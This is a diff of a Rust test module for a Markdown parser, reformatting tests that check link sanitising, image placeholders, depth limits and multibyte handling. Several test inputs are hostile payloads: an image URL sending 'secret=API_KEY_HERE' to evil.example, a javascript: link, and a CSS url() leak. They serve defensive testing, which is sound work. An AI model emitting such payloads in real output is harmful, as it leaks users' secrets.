             ("````\n```\ninner\n```\n````", "<pre>```\ninner\n```</pre>"),
             ("~~~\n```\n~~~", "<pre>```</pre>"),
             ("```\n\tkeeps\ttabs\n```", "<pre>\tkeeps\ttabs</pre>"),
@@ -2225,22 +1945,10 @@ mod tests {
             ("> a\n> b", "<blockquote><p>a\nb</p></blockquote>"),
             ("> a\nlazy", "<blockquote><p>a\nlazy</p></blockquote>"),
             ("> a\n\nout", "<blockquote><p>a</p></blockquote><p>out</p>"),
-            (
-                "> > nested",
-                "<blockquote><blockquote><p>nested</p></blockquote></blockquote>",
-            ),
-            (
-                "> # h\n> - i",
-                "<blockquote><h1>h</h1><ul><li>i</li></ul></blockquote>",
-            ),
-            (
-                "> ```\n> code\n> ```",
-                "<blockquote><pre>code</pre></blockquote>",
-            ),
-            (
-                "> ```\n> code\nnot lazy",
-                "<blockquote><pre>code</pre></blockquote><p>not lazy</p>",
-            ),
+            ("> > nested", "<blockquote><blockquote><p>nested</p></blockquote></blockquote>"),
+            ("> # h\n> - i", "<blockquote><h1>h</h1><ul><li>i</li></ul></blockquote>"),
+            ("> ```\n> code\n> ```", "<blockquote><pre>code</pre></blockquote>"),
+            ("> ```\n> code\nnot lazy", "<blockquote><pre>code</pre></blockquote><p>not lazy</p>"),
             ("> a\n---", "<blockquote><p>a</p></blockquote><hr>"),
         ]);
     }
@@ -2340,9 +2048,7 @@ mod tests {
         let mut out = Vec::new();
         for block in blocks {
             match block {
-                Block::Heading { inlines, .. } | Block::Paragraph(inlines) => {
-                    walk_inlines(inlines, &mut out)
-                }
+                Block::Heading { inlines, .. } | Block::Paragraph(inlines) => walk_inlines(inlines, &mut out),
                 Block::List { items, .. } => {
                     for item in items {
                         out.extend(all_inlines(item));
@@ -2376,9 +2082,7 @@ mod tests {
         let mut out = String::new();
         for block in blocks {
             match block {
-                Block::Heading { inlines, .. } | Block::Paragraph(inlines) => {
-                    out.push_str(&plain_text(inlines))
-                }
+                Block::Heading { inlines, .. } | Block::Paragraph(inlines) => out.push_str(&plain_text(inlines)),
                 Block::List { items, .. } => {
                     for item in items {
                         out.push_str(&visible_text(item));
@@ -2400,21 +2104,10 @@ mod tests {
 
     fn assert_safe(blocks: &[Block], input: &str) {
         for href in hrefs(blocks) {
-            let scheme_ok = ["http://", "https://", "mailto:"]
-                .iter()
-                .any(|p| href.starts_with(p));
+            let scheme_ok = ["http://", "https://", "mailto:"].iter().any(|p| href.starts_with(p));
             assert!(scheme_ok, "unsafe href {href:?} from {input:?}");
-            assert!(
-                !href
-                    .chars()
-                    .any(|c| c.is_ascii_control() || is_bidi_control(c)),
-                "{href:?}"
-            );
-            assert_eq!(
-                safe_href(&href).as_deref(),
-                Some(href.as_str()),
-                "not a fixed point"
-            );
+            assert!(!href.chars().any(|c| c.is_ascii_control() || is_bidi_control(c)), "{href:?}");
+            assert_eq!(safe_href(&href).as_deref(), Some(href.as_str()), "not a fixed point");
         }
     }
 
@@ -2423,9 +2116,7 @@ mod tests {
             .iter()
             .map(|b| match b {
                 Block::Quote(inner) => 1 + container_depth(inner),
-                Block::List { items, .. } => {
-                    1 + items.iter().map(|i| container_depth(i)).max().unwrap_or(0)
-                }
+                Block::List { items, .. } => 1 + items.iter().map(|i| container_depth(i)).max().unwrap_or(0),
                 _ => 0,
             })
             .max()
@@ -2587,11 +2278,7 @@ mod tests {
         for input in &corpus {
             let blocks = parse(input);
             assert_safe(&blocks, input);
-            assert!(
-                container_depth(&blocks) <= MAX_DEPTH + 1,
-                "too deep for {:?}",
-                input.get(..40)
-            );
+            assert!(container_depth(&blocks) <= MAX_DEPTH + 1, "too deep for {:?}", input.get(..40));
             for inline in all_inlines(&blocks) {
                 if let Inline::Link { children, .. } = inline {
                     assert!(all_inlines(&[Block::Paragraph(children.clone())])
@@ -2604,16 +2291,10 @@ mod tests {
 
     #[test]
     fn hostile_links_keep_their_text_but_lose_the_target() {
-        for input in hostile_corpus()
-            .iter()
-            .filter(|s| s.starts_with("[click]("))
-        {
+        for input in hostile_corpus().iter().filter(|s| s.starts_with("[click](")) {
             let blocks = parse(input);
             assert!(hrefs(&blocks).is_empty(), "{input:?} kept a link");
-            assert!(
-                visible_text(&blocks).contains("click"),
-                "{input:?} lost its text"
-            );
+            assert!(visible_text(&blocks).contains("click"), "{input:?} lost its text");
         }
     }
 
@@ -2631,10 +2312,7 @@ mod tests {
         ];
         for input in html_inputs {
             let blocks = parse(input);
-            assert!(
-                visible_text(&blocks).contains(input),
-                "{input:?} became {blocks:?}"
-            );
+            assert!(visible_text(&blocks).contains(input), "{input:?} became {blocks:?}");
             assert!(hrefs(&blocks).iter().all(|h| h.starts_with("https://")));
         }
         let blocks = parse("<style>body{background:url(https://evil.example/leak)}</style>");
@@ -2643,25 +2321,18 @@ mod tests {
 
     #[test]
     fn images_are_placeholders_never_loaded() {
-        let blocks = parse(
-            "![x](https://evil.example/collect?secret=API_KEY_HERE) ![y](javascript:alert(1))",
-        );
+        let blocks = parse("![x](https://evil.example/collect?secret=API_KEY_HERE) ![y](javascript:alert(1))");
         let placeholders: Vec<_> = all_inlines(&blocks)
             .into_iter()
             .filter_map(|i| match i {
-                Inline::ImagePlaceholder { alt, href } => {
-                    Some((alt.clone(), href.clone().map(SafeUrl::into_string)))
-                }
+                Inline::ImagePlaceholder { alt, href } => Some((alt.clone(), href.clone().map(SafeUrl::into_string))),
                 _ => None,
             })
             .collect();
         assert_eq!(
             placeholders,
             vec![
-                (
-                    "x".to_owned(),
-                    Some("https://evil.example/collect?secret=API_KEY_HERE".to_owned())
-                ),
+                ("x".to_owned(), Some("https://evil.example/collect?secret=API_KEY_HERE".to_owned())),
                 ("y".to_owned(), None)
             ]
         );
@@ -2678,9 +2349,7 @@ mod tests {
         assert!(visible_text(&lists).contains("deep"));
 
         let stars = parse(&format!("{}a{}", "*".repeat(10_000), "*".repeat(10_000)));
-        let [Block::Paragraph(inlines)] = stars.as_slice() else {
-            panic!("{stars:?}")
-        };
+        let [Block::Paragraph(inlines)] = stars.as_slice() else { panic!("{stars:?}") };
         assert!(inline_depth(inlines) <= MAX_DEPTH);
         assert_eq!(plain_text(inlines), "a");
     }
@@ -2689,16 +2358,10 @@ mod tests {
     fn multibyte_text_survives_everywhere() {
         check(&[
             ("# Überschrift 🦀", "<h1>Überschrift 🦀</h1>"),
-            (
-                "- 項目\n- элемент",
-                "<ul><li>項目</li><li>элемент</li></ul>",
-            ),
+            ("- 項目\n- элемент", "<ul><li>項目</li><li>элемент</li></ul>"),
             ("**ß**_ü_", "<p><b>ß</b><i>ü</i></p>"),
             ("ß_ü_", "<p>ß_ü_</p>"),
-            (
-                "[リンク](https://例え.jp/パス)",
-                "<p><a href=https://例え.jp/パス>リンク</a></p>",
-            ),
+            ("[リンク](https://例え.jp/パス)", "<p><a href=https://例え.jp/パス>リンク</a></p>"),
             ("`🦀`", "<p><code>🦀</code></p>"),
             ("\u{202e}reversed", "<p>\u{202e}reversed</p>"),
             ("a\0b", "<p>a\u{fffd}b</p>"),
